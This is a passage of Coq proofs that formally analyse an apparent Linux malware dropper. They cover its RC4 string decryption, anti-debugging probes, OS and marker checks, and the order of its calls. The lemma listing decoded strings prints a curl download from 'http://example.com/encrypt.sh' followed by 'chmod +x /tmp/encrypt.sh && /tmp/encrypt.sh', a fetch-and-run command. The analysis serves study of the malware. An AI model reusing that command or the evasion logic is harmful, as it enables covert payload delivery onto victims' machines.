    unfold _rc4x in E'. rewrite Nat2Z.id in E'. rewrite E'.
    cbn [for_loop]. unfold rc4x_body.
    rewrite (lookup_ge_None_2 d') by lia. reflexivity.
Qed.

Lemma rc4x_run_cursors (n : nat) (c : _rc4) :
  (0 < n)%nat -> 0 <= c_i (rc4x_run n c) < 256 /\ 0 <= c_j (rc4x_run n c) < 256.
Proof.
  destruct n as [|n]; [lia|]. intros _. unfold rc4x_run. cbn [Nat.iter].
  unfold rc4x_next. cbn [c_i c_j]. split; apply land_255_range.
Qed.

(** X2.  When [l] bytes fit, [_rc4x] keeps the size of the buffer, leaves
    the bytes from position [l] on as they were, writes bytes in [0..255]
    into the first [l], leaves both cursors in [0..255] when [l > 0], and
    changes nothing at all when [l <= 0]. *)
Theorem rc4x_effect (c : _rc4) (d : list Z) (l : Z) :
  l <= Z.of_nat (length d) ->
  exists c' d',
    _rc4x c d l = Some (c', d')
    /\ length d' = length d
    /\ drop (Z.to_nat l) d' = drop (Z.to_nat l) d
    /\ Forall is_byte (take (Z.to_nat l) d')
    /\ (0 < l -> 0 <= c_i c' < 256 /\ 0 <= c_j c' < 256)
    /\ (l <= 0 -> c' = c /\ d' = d).
Proof.
  intros Hl. destruct (rc4x_spec c d l Hl) as (d' & E & Hlen & Hlk).
  exists (rc4x_run (Z.to_nat l) c), d'. split; [exact E|]. split; [exact Hlen|].
  split; [|split; [|split]].
  - apply list_eq. intros m. rewrite !lookup_drop, Hlk. case_decide; [lia|done].
  - apply Forall_lookup. intros m x Hx.
    apply lookup_take_Some in Hx as [Hx Hm]. rewrite Hlk in Hx.
    case_decide; [|lia]. destruct (d !! m); [|done]. injection Hx as <-. apply xor8_byte.
  - intros H0. apply rc4x_run_cursors. lia.
  - intros H0. unfold _rc4x in E. replace (Z.to_nat l) with 0%nat in * by lia.
    cbn [for_loop] in E. injection E as <-. by split.
Qed.

Lemma rc4x_effect_witness :
  exists c' d',
    _rc4x (mk_rc4 identity_table 0 0) [10; 20; 30] 2 = Some (c', d')
    /\ length d' = length [10; 20; 30]
    /\ drop (Z.to_nat 2) d' = drop (Z.to_nat 2) [10; 20; 30]
    /\ Forall is_byte (take (Z.to_nat 2) d')
    /\ (0 < 2 -> 0 <= c_i c' < 256 /\ 0 <= c_j c' < 256)
    /\ (2 <= 0 -> c' = mk_rc4 identity_table 0 0 /\ d' = [10; 20; 30]).
Proof.
  apply (rc4x_effect (mk_rc4 identity_table 0 0) [10; 20; 30] 2). simpl. lia.
Defined.

Lemma xor8_same_key (a b k : Z) : xor8 (xor8 a k) (xor8 b k) = xor8 a b.
Proof.
  unfold xor8. apply Z.bits_inj'. intros n Hn. change 255 with (Z.ones 8).
  rewrite !Z.land_spec, !Z.lxor_spec, !Z.land_spec, !Z.lxor_spec.
  rewrite Z.testbit_ones_nonneg by lia.
  destruct (n <? 8); rewrite ?andb_true_r, ?andb_false_r; [|reflexivity].
  destruct (Z.testbit a n), (Z.testbit b n), (Z.testbit k n); reflexivity.
Qed.

(** X3.  Two buffers of one size put through [_rc4x] from the same cipher
    state end in the same state, and the XOR of the two results is the XOR
    of the two inputs: the stream does not depend on the data. *)
Theorem rc4x_keystream_reuse (c : _rc4) (d1 d2 : list Z) (l : Z) :
  l <= Z.of_nat (length d1) -> length d1 = length d2 ->
  exists c' e1 e2,
    _rc4x c d1 l = Some (c', e1)
    /\ _rc4x c d2 l = Some (c', e2)
    /\ zip_with xor8 (take (Z.to_nat l) e1) (take (Z.to_nat l) e2)
       = zip_with xor8 (take (Z.to_nat l) d1) (take (Z.to_nat l) d2).
Proof.
  intros Hl Hlen.
  destruct (rc4x_spec c d1 l Hl) as (e1 & E1 & _ & H1).
  destruct (rc4x_spec c d2 l ltac:(lia)) as (e2 & E2 & _ & H2).
  eexists _, e1, e2. split; [exact E1|]. split; [exact E2|].
  apply list_eq. intros m. rewrite !lookup_zip_with.
  destruct (decide (m < Z.to_nat l)%nat) as [Hm|Hm].
  - rewrite !lookup_take_lt by done. rewrite H1, H2. case_decide; [|lia].
    destruct (d1 !! m) as [a|], (d2 !! m) as [b|]; try reflexivity.
    cbn. by rewrite xor8_same_key.
  - by rewrite !lookup_take_ge by lia.
Qed.

Lemma rc4x_keystream_reuse_witness :
  exists c' e1 e2,
    _rc4x (mk_rc4 identity_table 0 0) [10; 20; 30] 3 = Some (c', e1)
    /\ _rc4x (mk_rc4 identity_table 0 0) [7; 8; 9] 3 = Some (c', e2)
    /\ zip_with xor8 (take (Z.to_nat 3) e1) (take (Z.to_nat 3) e2)
       = zip_with xor8 (take (Z.to_nat 3) [10; 20; 30]) (take (Z.to_nat 3) [7; 8; 9]).
Proof.
  apply (rc4x_keystream_reuse (mk_rc4 identity_table 0 0) [10; 20; 30] [7; 8; 9] 3).
  - simpl. lia.
  - reflexivity.
Defined.

(** X4.  [_rc4i] with [kl = 0] divides by zero.  With [0 < kl] at most
    the size of the key it succeeds, leaves cursors 0 and a permutation of
    [0..255], and its result depends neither on what the context held
    before nor on the key bytes from position [kl] on. *)
Theorem rc4i_reads (c c' : _rc4) (k : list Z) (kl : Z) :
  length (c_S c) = 256%nat -> length (c_S c') = 256%nat ->
  0 < kl <= Z.of_nat (length k) ->
  _rc4i c k 0 = None
  /\ exists t, _rc4i c k kl = Some (mk_rc4 t 0 0)
       /\ _rc4i c' (take (Z.to_nat kl) k) kl = Some (mk_rc4 t 0 0)
       /\ Permutation t identity_table.
Proof.
  intros Hc Hc' Hkl. split.
  { unfold _rc4i. rewrite (rc4i_fill_loop _ Hc). reflexivity. }
  assert (take (Z.to_nat kl) k <> []) as Hne.
  { intros E. apply (f_equal length) in E. rewrite length_take in E. simpl in E. lia. }
  destruct (rc4i_spec c' (take (Z.to_nat kl) k) Hc' Hne) as (t & Ht & Hp).
  rewrite length_take in Ht.
  replace (Z.of_nat (Z.to_nat kl `min` length k)) with kl in Ht by lia.
  exists t. split; [|by split].
  rewrite <- Ht. unfold _rc4i. rewrite !rc4i_fill_loop by done.
  erewrite for_loop_ext; [reflexivity|].
  intros i [s j] Hi. unfold rc4i_mix.
  destruct (kl =? 0); [reflexivity|].
  pose proof (Z.rem_bound_pos i kl ltac:(lia) ltac:(lia)).
  by rewrite lookup_take_lt by lia.
Qed.

Lemma rc4i_reads_witness :
  _rc4i (mk_rc4 (replicate 256 0) 0 0) [75; 101; 121; 1; 2] 0 = None
  /\ exists t, _rc4i (mk_rc4 (replicate 256 0) 0 0) [75; 101; 121; 1; 2] 3
               = Some (mk_rc4 t 0 0)
       /\ _rc4i (mk_rc4 (replicate 256 5) 1 2) (take (Z.to_nat 3) [75; 101; 121; 1; 2]) 3
          = Some (mk_rc4 t 0 0)
       /\ Permutation t identity_table.
Proof.
  apply (rc4i_reads (mk_rc4 (replicate 256 0) 0 0) (mk_rc4 (replicate 256 5) 1 2)
           [75; 101; 121; 1; 2] 3).
  - reflexivity.
  - reflexivity.
  - simpl. lia.
Defined.

(** ** Exit code, order of the calls, gates *)

(** An event that stands in an explicit trace. *)
Ltac trace_has := solve [repeat (first [left; reflexivity | right])].

Lemma arun_exit_code (tr : list event) (fin : anext) :
  arun ST_INIT 1 tr fin ->
  (fin = AReturn 0 <-> In (EvRet F_exec_payload 0) tr)
  /\ (fin = AReturn 0 \/ fin = AReturn 1 \/ exists h, fin = AHalt h)
  /\ (In (EvRet F_exec_payload 0) tr ->
      In (EvRet F_ad_ptrace 0) tr /\ In (EvRet F_ad_timing 0) tr
      /\ In (EvRet F_ad_proc 0) tr
      /\ (exists r, r <> 0 /\ In (EvRet F_sm_check r) tr)
      /\ (exists r, r <> 0 /\ In (EvRet F_check_os r) tr)
      /\ In (EvRet F_check_marker 0) tr
      /\ In (EvRet F_download 0) tr).
Proof.
  intros H. repeat arun_inv; try default_absurd.
  all: repeat match goal with
       | |- context [if ?c then _ else _] => destruct c eqn:?
       end.
  all: eqb_facts; subst; cbn [app In].
  all: split; [split; [intros E; try discriminate E; tauto
                      |intros Hin; in_trace; try reflexivity; try congruence]|].
  all: split; [eauto|].
  all: intros Hin; in_trace; try congruence.
  all: repeat split; try trace_has.
  all: eexists; (split; [|trace_has]); assumption.
Qed.

(** X5.  [main] returns 0 exactly when [_exec_payload] returned 0; a run
    ends with 0, with 1, or in a forked child; and exit code 0 means that
    the three probes returned 0, [_sm_check] and [_check_os] nonzero,
    [_check_marker] 0 and [_download] 0. *)
Theorem exit_code_meaning (o : oracle) :
  (exit_code (main 12 o) = Some 0
   <-> In (EvRet F_exec_payload 0) (run_trace (main 12 o)))
  /\ (exit_code (main 12 o) = Some 0 \/ exit_code (main 12 o) = Some 1
      \/ (exit_code (main 12 o) = None /\ ~ parent o))
  /\ (exit_code (main 12 o) = Some 0 ->
      In (EvRet F_ad_ptrace 0) (run_trace (main 12 o))
      /\ In (EvRet F_ad_timing 0) (run_trace (main 12 o))
      /\ In (EvRet F_ad_proc 0) (run_trace (main 12 o))
      /\ (exists r, r <> 0 /\ In (EvRet F_sm_check r) (run_trace (main 12 o)))
      /\ (exists r, r <> 0 /\ In (EvRet F_check_os r) (run_trace (main 12 o)))
      /\ In (EvRet F_check_marker 0) (run_trace (main 12 o))
      /\ In (EvRet F_download 0) (run_trace (main 12 o))).
Proof.
  destruct (main_run o) as (r & fin & -> & Hrun & He). cbn [run_trace].
  destruct (arun_exit_code _ _ Hrun) as (Hiff & Hcases & Hchain).
  assert (exit_code (Some r) = Some 0 <-> fin = AReturn 0) as Hex.
  { destruct fin as [? ?|c|h]; cbn [ends_as] in He; [done| |].
    - destruct He as (s' & ->). cbn [exit_code]. split; congruence.
    - destruct He as ((s' & ->) & _). cbn [exit_code]. split; discriminate. }
  split; [by rewrite Hex|]. split.
  - destruct Hcases as [->|[->|(h & ->)]]; cbn [ends_as] in He.
    + left. by apply Hex.
    + right; left. destruct He as (s' & ->). reflexivity.
    + right; right. destruct He as ((s' & ->) & _ & Hc). by split.
  - intros E. apply Hchain, Hiff, Hex, E.
Qed.

Lemma arun_call_order (tr : list event) (fin : anext) :
  arun ST_INIT 1 tr fin -> calls tr `prefix_of` call_order.
Proof.
  intros H. repeat arun_inv; try default_absurd.
  all: cbn [calls omap app list_omap]; unfold call_order.
  all: eexists; reflexivity.
Qed.

(** X6.  In every run the calls [main] makes are an initial part of the
    fixed sequence [_ad_ptrace, _ad_timing, _ad_proc, _self_modify,
    _sm_check, _check_os, _check_marker, _hide_proc, _download,
    _exec_payload]: each at most once, none out of order. *)
Theorem calls_in_order (o : oracle) :
  exists rest, call_order = calls (run_trace (main 12 o)) ++ rest.
Proof.
  destruct (main_run o) as (r & fin & -> & Hrun & He). cbn [run_trace].
  exact (arun_call_order _ _ Hrun).
Qed.

Lemma arun_gate_closed (tr : list event) (fin : anext) (f : fn) :
  arun ST_INIT 1 tr fin ->
  f = F_sm_check \/ f = F_check_os ->
  In (EvRet f 0) tr ->
  fin = AReturn 1
  /\ In (EvState ST_EXIT_FAIL) tr
  /\ ~ In (EvCall F_check_marker) tr /\ ~ In (EvCall F_hide_proc) tr
  /\ ~ In (EvCall F_download) tr /\ ~ In (EvCall F_exec_payload) tr.
Proof.
  intros H Hf Hin. arun_cases; in_trace; try congruence.
  all: repeat split; try trace_has; intros Hc; in_trace.
Qed.

(** X7.  When [_sm_check] or [_check_os] returns 0, the run goes through
    [ST_EXIT_FAIL], [main] returns 1, and [_check_marker], [_hide_proc],
    [_download] and [_exec_payload] are never called. *)
Theorem gate_closed_aborts (o : oracle) (f : fn) :
  f = F_sm_check \/ f = F_check_os ->
  In (EvRet f 0) (run_trace (main 12 o)) ->
  exit_code (main 12 o) = Some 1
  /\ In (EvState ST_EXIT_FAIL) (run_trace (main 12 o))
  /\ ~ In (EvCall F_check_marker) (run_trace (main 12 o))
  /\ ~ In (EvCall F_hide_proc) (run_trace (main 12 o))
  /\ ~ In (EvCall F_download) (run_trace (main 12 o))
  /\ ~ In (EvCall F_exec_payload) (run_trace (main 12 o)).
Proof.
  destruct (main_run o) as (r & fin & -> & Hrun & He). cbn [run_trace].
  intros Hf Hin. destruct (arun_gate_closed _ _ f Hrun Hf Hin) as (-> & Hrest).
  split; [by apply (ends_as_exit_code o)|exact Hrest].
Qed.

Lemma gate_closed_aborts_witness :
  exit_code (main 12 os_out_of_memory) = Some 1
  /\ In (EvState ST_EXIT_FAIL) (run_trace (main 12 os_out_of_memory))
  /\ ~ In (EvCall F_check_marker) (run_trace (main 12 os_out_of_memory))
  /\ ~ In (EvCall F_hide_proc) (run_trace (main 12 os_out_of_memory))
  /\ ~ In (EvCall F_download) (run_trace (main 12 os_out_of_memory))
  /\ ~ In (EvCall F_exec_payload) (run_trace (main 12 os_out_of_memory)).
Proof.
  apply (gate_closed_aborts os_out_of_memory F_check_os).
  - right. reflexivity.
  - vm_compute. tauto.
Defined.

Lemma rank_le_11 (st : Z) : (rank st <= 11)%nat.
Proof. unfold rank. repeat (destruct (st =? _); [lia|]). lia. Qed.

(** X8.  Entered with any value of [state] and [retval], the loop is left
    within eleven passes without entering a state twice; entered with a
    value that is none of the twelve states it returns 1 at once, after the
    single pass through the [default] case. *)
Theorem loop_from_any_state (st rv sen : Z) (o : oracle) (s : pstate) :
  WF s ->
  (exists r, main_loop 11 st rv sen o s = Some r
     /\ NoDup (visited (drop (length (trace s)) (trace (final_state r))))
     /\ ((exists c s', r = Ret c s')
         \/ (exists h s', r = Halt h s' /\ h <> Undefined /\ ~ parent o)))
  /\ (~ In st all_states ->
      exists s', main_loop 11 st rv sen o s = Some (Ret 1 s')
        /\ trace s' = trace s ++ [EvState st]).
Proof.
  intros H. split.
  - destruct (main_loop_run sen o 11 st rv s H (rank_le_11 st))
      as (r & evs & fin & Hm & Hrun & Hp & He).
    exists r. split; [exact Hm|].
    destruct Hp as (_ & -> & _). rewrite drop_app_length.
    destruct (arun_visited _ _ _ _ Hrun) as (rest & -> & _ & Hnd & _).
    split; [exact Hnd|].
    destruct fin as [? ?|c|h]; cbn [ends_as] in He; [done| |].
    + left. destruct He as (s' & ->). by eexists _, _.
    + right. destruct He as ((s' & ->) & Hh & Hc). by eexists _, _.
  - intros Hn. destruct (dispatch_astep st rv sen o s H) as (evs & nx & Ha & Hx & Hp).
    inversion Ha; subst; try (exfalso; apply Hn; cbn [all_states In]; tauto).
    cbn [refines] in Hx. destruct Hx as (s' & E). rewrite E in Hp.
    exists s'. cbn [main_loop]. rewrite E. split; [reflexivity|].
    by destruct Hp as (_ & Ht & _).
Qed.

Lemma loop_from_any_state_witness :
  (exists r, main_loop 11 0x1234 7 4242 os_clean init_pstate = Some r
     /\ NoDup (visited (drop (length (trace init_pstate)) (trace (final_state r))))
     /\ ((exists c s', r = Ret c s')
         \/ (exists h s', r = Halt h s' /\ h <> Undefined /\ ~ parent os_clean)))
  /\ (~ In 0x1234 all_states ->
      exists s', main_loop 11 0x1234 7 4242 os_clean init_pstate = Some (Ret 1 s')
        /\ trace s' = trace init_pstate ++ [EvState 0x1234]).
Proof.
  apply (loop_from_any_state 0x1234 7 4242 os_clean init_pstate). reflexivity.
Defined.

(** ** What [_ds] returns *)

Lemma ds_decode_with (o : oracle) (s : pstate) (off len : Z) :
  WF s ->
  _ds off len o s
  = if os_malloc o (n_malloc s) then
      match decode_with (_rk (after_recover s)) off len with
      | Some buf => Ret (Some buf) (after_ds o s)
      | None => Halt Undefined (after_ds o s)
      end
    else Ret None (after_ds o s).
Proof.
  intros H. unfold _ds, bind. rewrite (recover_key_eq o s H).
  rewrite <- (n_malloc_after_recover s).
  unfold malloc, after_ds, decode_with. cbv zeta.
  destruct (os_malloc o (n_malloc (after_recover s))); [|reflexivity].
  unfold get_rk. cbv beta iota. cbn [_rk].
  destruct (memcpy_st _ off len) as [buf1|]; [|reflexivity].
  destruct (_rc4i _ _ KS_LEN) as [ctx1|]; [|reflexivity].
  destruct (_rc4x ctx1 buf1 len) as [[c2 buf2]|]; reflexivity.
Qed.

Lemma key_good_after_recover (s : pstate) :
  key_good s -> _rk (after_recover s) = recovered_key.
Proof.
  intros [_ [E|E]]; unfold after_recover.
  - by rewrite E.
  - by destruct (_key_ready s =? 0).
Qed.

Lemma key_good_after_ds (o : oracle) (s : pstate) :
  key_good s ->
  key_good (after_ds o s) /\ _rk (after_ds o s) = recovered_key
  /\ _key_ready (after_ds o s) <> 0.
Proof.
  intros Hk. pose proof (key_good_after_recover s Hk) as E.
  destruct Hk as [H _]. unfold key_good, after_ds. cbn [_rk _key_ready].
  split; [split; [exact (WF_after_recover s H)|by right]|]. split; [exact E|].
  unfold after_recover. destruct (Z.eqb_spec (_key_ready s) 0); [discriminate|done].
Qed.

Lemma st_bytes : Forall is_byte _st.
Proof. repeat constructor; unfold is_byte; lia. Qed.

Lemma c_str_upto (b : list Z) (n : nat) :
  b !! n = Some 0 -> (length (c_str b) <= n)%nat.
Proof.
  revert n. induction b as [|x b IH]; intros n Hn; [done|].
  cbn [c_str]. destruct (Z.eqb_spec x 0) as [->|Hx]; [simpl; lia|].
  destruct n as [|n]; [simpl in Hn; congruence|].
  simpl in Hn |- *. specialize (IH n Hn). lia.
Qed.

(** The shape of a decoded buffer. *)
Lemma decode_with_shape (rk : list Z) (off len : Z) :
  length rk = 14%nat -> 0 <= off -> 0 <= len -> off + len <= 174 ->
  exists c1 buf,
    _rc4i {| c_S := replicate 256 0; c_i := 0; c_j := 0 |} rk KS_LEN = Some c1
    /\ decode_with rk off len = Some buf
    /\ length buf = Z.to_nat (len + 1)
    /\ buf !! Z.to_nat len = Some 0
    /\ Forall is_byte buf
    /\ snd <$> _rc4x c1 (take (Z.to_nat len) buf) len
       = Some (take (Z.to_nat len) (drop (Z.to_nat off) _st)).
Proof.
  intros Hrk Ho Hl Hb. unfold decode_with.
  set (slice := take (Z.to_nat len) (drop (Z.to_nat off) _st)).
  assert (length slice = Z.to_nat len) as Hslice.
  { unfold slice. rewrite length_take, length_drop. change (length _st) with 174%nat. lia. }
  assert (memcpy_st (replicate (Z.to_nat (len + 1)) 0) off len = Some (slice ++ [0])) as ->.
  { unfold memcpy_st. rewrite length_replicate. change (Z.of_nat (length _st)) with 174.
    destruct (Z.leb_spec 0 off); [|lia]. destruct (Z.leb_spec 0 len); [|lia].
    destruct (Z.leb_spec (off + len) 174); [|lia].
    destruct (Z.leb_spec len (Z.of_nat (Z.to_nat (len + 1)))); [|lia].
    cbn [andb]. f_equal. fold slice. f_equal. rewrite drop_replicate.
    replace (Z.to_nat (len + 1) - Z.to_nat len)%nat with 1%nat by lia. reflexivity. }
  destruct (rc4i_spec {| c_S := replicate 256 0; c_i := 0; c_j := 0 |} rk) as (t & Hi & _);
    [reflexivity|by intros ->|].
  rewrite Hrk in Hi. change (Z.of_nat 14) with KS_LEN in Hi. rewrite Hi.
  destruct (rc4x_spec (mk_rc4 t 0 0) (slice ++ [0]) len) as (buf2 & -> & Hlen2 & Hlk);
    [rewrite length_app; simpl; lia|].
  rewrite length_app in Hlen2. simpl in Hlen2.
  exists (mk_rc4 t 0 0), (wr buf2 len 0). split; [reflexivity|]. split; [reflexivity|].
  unfold wr. split; [rewrite length_insert; lia|].
  split; [apply list_lookup_insert_eq; lia|].
  assert (forall m, (m < Z.to_nat len)%nat ->
            buf2 !! m = (fun b => xor8 b (keystream (mk_rc4 t 0 0) m)) <$> slice !! m) as Hpre.
  { intros m Hm. rewrite Hlk. case_decide; [|lia]. by rewrite lookup_app_l by lia. }
  split.
  - apply Forall_lookup. intros m x Hx.
    destruct (decide (m = Z.to_nat len)) as [->|Hne].
    + rewrite list_lookup_insert_eq in Hx by lia. injection Hx as <-. unfold is_byte. lia.
    + rewrite list_lookup_insert_ne in Hx by done.
      assert (m < Z.to_nat len)%nat as Hm by (apply lookup_lt_Some in Hx; lia).
      rewrite (Hpre m Hm) in Hx. destruct (slice !! m); [|done].
      injection Hx as <-. apply xor8_byte.
  - destruct (rc4x_spec (mk_rc4 t 0 0) (take (Z.to_nat len) (<[Z.to_nat len:=0]> buf2)) len)
      as (d' & -> & Hlen' & Hlk'); [rewrite length_take, length_insert; lia|].
    cbn. f_equal. apply list_eq. intros m. rewrite Hlk'.
    rewrite length_take, length_insert in Hlen'.
    destruct (decide (m < Z.to_nat len)%nat) as [Hm|Hm].
    + rewrite lookup_take_lt by done. rewrite list_lookup_insert_ne by lia.
      rewrite (Hpre m Hm).
      destruct (lookup_lt_is_Some_2 slice m ltac:(lia)) as [b Eb]. rewrite Eb. cbn.
      f_equal. apply xor8_cancel.
      assert (Forall is_byte slice) as Hs.
      { unfold slice. apply Forall_take, Forall_drop, st_bytes. }
      by eapply (Forall_lookup_1 is_byte slice).
    + rewrite lookup_take_ge by lia. symmetry. apply lookup_ge_None. lia.
Qed.

(** X9.  With a good key and [off], [len] inside the table, [_ds] returns
    NULL exactly when [malloc] fails, and otherwise a buffer of [len + 1]
    bytes, all in [0..255], with a NUL at position [len] (so the string it
    holds is at most [len] long), whose first [len] bytes encrypt back,
    under a fresh context with the recovered key, to the bytes of the
    table. *)
Theorem ds_result (o : oracle) (s : pstate) (off len : Z) :
  key_good s -> 0 <= off -> 0 <= len -> off + len <= 174 ->
  exists c1 buf,
    _rc4i {| c_S := replicate 256 0; c_i := 0; c_j := 0 |} recovered_key KS_LEN = Some c1
    /\ _ds off len o s
       = Ret (if os_malloc o (n_malloc s) then Some buf else None) (after_ds o s)
    /\ length buf = Z.to_nat (len + 1)
    /\ buf !! Z.to_nat len = Some 0
    /\ (length (c_str buf) <= Z.to_nat len)%nat
    /\ Forall is_byte buf
    /\ snd <$> _rc4x c1 (take (Z.to_nat len) buf) len
       = Some (take (Z.to_nat len) (drop (Z.to_nat off) _st)).
Proof.
  intros Hk Ho Hl Hb.
  destruct (decode_with_shape recovered_key off len eq_refl Ho Hl Hb)
    as (c1 & buf & Hi & Hd & Hlen & Hnul & Hby & Hrt).
  exists c1, buf. split; [exact Hi|].
  rewrite (ds_decode_with o s off len (proj1 Hk)), (key_good_after_recover s Hk), Hd.
  split; [by destruct (os_malloc o (n_malloc s))|].
  split; [exact Hlen|]. split; [exact Hnul|].
  split; [by apply c_str_upto|]. by split.
Qed.

Lemma ds_result_witness :
  exists c1 buf,
    _rc4i {| c_S := replicate 256 0; c_i := 0; c_j := 0 |} recovered_key KS_LEN = Some c1
    /\ _ds 147 9 os_clean init_pstate
       = Ret (if os_malloc os_clean (n_malloc init_pstate) then Some buf else None)
             (after_ds os_clean init_pstate)
    /\ length buf = Z.to_nat (9 + 1)
    /\ buf !! Z.to_nat 9 = Some 0
    /\ (length (c_str buf) <= Z.to_nat 9)%nat
    /\ Forall is_byte buf
    /\ snd <$> _rc4x c1 (take (Z.to_nat 9) buf) 9
       = Some (take (Z.to_nat 9) (drop (Z.to_nat 147) _st)).
Proof.
  apply (ds_result os_clean init_pstate 147 9).
  - split; [reflexivity|left; reflexivity].
  - lia.
  - lia.
  - lia.
Defined.

(** X10.  [_ds] gives the same buffer for the same [off], [len] in any two
    states with a good key, whatever was decoded before; and it leaves the
    key recovered and marked ready. *)
Theorem ds_order_independent (o o' : oracle) (s s' : pstate) (off len : Z) :
  key_good s -> key_good s' -> 0 <= off -> 0 <= len -> off + len <= 174 ->
  os_malloc o (n_malloc s) = true -> os_malloc o' (n_malloc s') = true ->
  exists buf,
    _ds off len o s = Ret (Some buf) (after_ds o s)
    /\ _ds off len o' s' = Ret (Some buf) (after_ds o' s')
    /\ key_good (after_ds o s)
    /\ _rk (after_ds o s) = recovered_key
    /\ _key_ready (after_ds o s) <> 0.
Proof.
  intros Hk Hk' Ho Hl Hb Hm Hm'.
  destruct (decode_with_shape recovered_key off len eq_refl Ho Hl Hb)
    as (_ & buf & _ & Hd & _).
  exists buf.
  rewrite (ds_decode_with o s off len (proj1 Hk)), (key_good_after_recover s Hk), Hd, Hm.
  rewrite (ds_decode_with o' s' off len (proj1 Hk')), (key_good_after_recover s' Hk'), Hd, Hm'.
  split; [reflexivity|]. split; [reflexivity|]. by apply key_good_after_ds.
Qed.

Lemma ds_order_independent_witness :
  exists buf,
    _ds 0 5 os_clean init_pstate = Ret (Some buf) (after_ds os_clean init_pstate)
    /\ _ds 0 5 os_fetch_fails (after_ds os_clean init_pstate)
       = Ret (Some buf) (after_ds os_fetch_fails (after_ds os_clean init_pstate))
    /\ key_good (after_ds os_clean init_pstate)
    /\ _rk (after_ds os_clean init_pstate) = recovered_key
    /\ _key_ready (after_ds os_clean init_pstate) <> 0.
Proof.
  apply (ds_order_independent os_clean os_fetch_fails init_pstate
           (after_ds os_clean init_pstate) 0 5).
  - split; [reflexivity|left; reflexivity].
  - split; [reflexivity|right; reflexivity].
  - lia.
  - lia.
  - lia.
  - reflexivity.
  - reflexivity.
Defined.

(** ** The strings of the table at work *)

Lemma ds_at_good (o : oracle) (s : pstate) (e : Z * Z) :
  key_good s -> In e string_table ->
  _ds_at e o s
  = Ret (if os_malloc o (n_malloc s) then Some (plaintext e) else None) (after_ds o s).
Proof.
  intros Hk He. unfold _ds_at, plaintext.
  rewrite (ds_decode_with o s _ _ (proj1 Hk)), (key_good_after_recover s Hk).
  assert (0 <= fst e /\ 0 <= snd e /\ fst e + snd e <= 174) as (Ho & Hl & Hb).
  { repeat (destruct He as [<-|He]; [simpl; lia|]). destruct He. }
  destruct (decode_with_shape recovered_key (fst e) (snd e) eq_refl Ho Hl Hb)
    as (_ & buf & _ & -> & _).
  by destruct (os_malloc o (n_malloc s)).
Qed.

(** The strings of the table. *)
Lemma plaintext_strings :
  c_str (plaintext S_LINUX) = bytes "Linux"
  /\ c_str (plaintext S_MARKER) = bytes "/tmp/ghost_shell.c"
  /\ c_str (plaintext S_PROC_MEM) = bytes "/proc/self/mem"
  /\ c_str (plaintext S_CURL) = bytes "curl"
  /\ c_str (plaintext S_C2_URL) = bytes "http://example.com/encrypt.sh"
  /\ c_str (plaintext S_DASH_O) = bytes "-o"
  /\ c_str (plaintext S_PAYLOAD_PATH) = bytes "/tmp/encrypt.sh"
  /\ c_str (plaintext S_EXEC_CMD) = bytes "chmod +x /tmp/encrypt.sh && /tmp/encrypt.sh"
  /\ c_str (plaintext S_PROC_STATUS) = bytes "/proc/self/status"
  /\ c_str (plaintext S_TRACER) = bytes "TracerPid"
  /\ c_str (plaintext S_DEV_NULL) = bytes "/dev/null"
  /\ c_str (plaintext S_BIN_SH) = bytes "/bin/sh"
  /\ c_str (plaintext S_DASH_C) = bytes "-c".
Proof. vm_compute. repeat split. Qed.

(** Rewrites the decoded strings of the goal into their text. *)
Ltac table_strings :=
  let E1 := fresh in let E2 := fresh in let E3 := fresh in let E4 := fresh in
  let E5 := fresh in let E6 := fresh in let E7 := fresh in let E8 := fresh in
  let E9 := fresh in let E10 := fresh in let E11 := fresh in let E12 := fresh in
  let E13 := fresh in
  destruct plaintext_strings
    as (E1 & E2 & E3 & E4 & E5 & E6 & E7 & E8 & E9 & E10 & E11 & E12 & E13);
  rewrite ?E1, ?E2, ?E3, ?E4, ?E5, ?E6, ?E7, ?E8, ?E9, ?E10, ?E11, ?E12, ?E13;
  clear E1 E2 E3 E4 E5 E6 E7 E8 E9 E10 E11 E12 E13.

(** Rewrites the next [_ds_at] of the goal with [ds_at_good]. *)
Ltac ds_good Hk :=
  match goal with
  | |- context [_ds_at ?e ?o ?s] =>
      let K := fresh "K" in
      assert (key_good s) as K
        by (repeat (apply key_good_after_ds); exact Hk);
      rewrite (ds_at_good o s e K ltac:(simpl; tauto)); clear K;
      cbv beta iota; rewrite ?n_malloc_after_ds
  end.

(** X11.  [_check_os] returns 1 exactly when [uname] returns 0, the
    allocation succeeds and the system name is "Linux"; otherwise 0. *)
Theorem check_os_accepts_linux (o : oracle) (s : pstate) :
  key_good s ->
  exists s',
    _check_os o s
    = Ret (if (os_uname o =? 0) && os_malloc o (n_malloc s)
              && bool_decide (os_sysname o = bytes "Linux")
           then 1 else 0) s'.
Proof.
  intros Hk. unfold _check_os, bind, uname. cbn [fst snd].
  destruct (os_uname o =? 0); cbn [negb andb]; [|by eexists].
  ds_good Hk. destruct (os_malloc o (n_malloc s)); cbn [andb]; [|by eexists].
  unfold ret, streq. destruct plaintext_strings as (-> & _). by eexists.
Qed.

Lemma check_os_accepts_linux_witness :
  exists s',
    _check_os os_clean init_pstate
    = Ret (if (os_uname os_clean =? 0) && os_malloc os_clean (n_malloc init_pstate)
              && bool_decide (os_sysname os_clean = bytes "Linux")
           then 1 else 0) s'.
Proof.
  apply (check_os_accepts_linux os_clean init_pstate).
  split; [reflexivity|left; reflexivity].
Defined.

(** X12.  [_check_marker] returns 1 exactly when the allocation succeeds
    and [stat] of "/tmp/ghost_shell.c" returns 0; otherwise 0. *)
Theorem check_marker_stat (o : oracle) (s : pstate) :
  key_good s ->
  exists s',
    _check_marker o s
    = Ret (if os_malloc o (n_malloc s)
              && (os_stat o (bytes "/tmp/ghost_shell.c") =? 0)
           then 1 else 0) s'.
Proof.
  intros Hk. unfold _check_marker, bind. ds_good Hk.
  destruct (os_malloc o (n_malloc s)); cbn [andb]; [|by eexists].
  unfold stat, ret. destruct plaintext_strings as (_ & -> & _). by eexists.
Qed.

Lemma check_marker_stat_witness :
  exists s',
    _check_marker os_marker_present init_pstate
    = Ret (if os_malloc os_marker_present (n_malloc init_pstate)
              && (os_stat os_marker_present (bytes "/tmp/ghost_shell.c") =? 0)
           then 1 else 0) s'.
Proof.
  apply (check_marker_stat os_marker_present init_pstate).
  split; [reflexivity|left; reflexivity].
Defined.

(** X13.  [_ad_proc] returns what the scan of "/proc/self/status" for
    "TracerPid" gives when both allocations succeed and the file opens, and
    0 when an allocation fails or the file does not open. *)
Theorem ad_proc_reads_status (o : oracle) (s : pstate) :
  key_good s ->
  exists s',
    _ad_proc o s
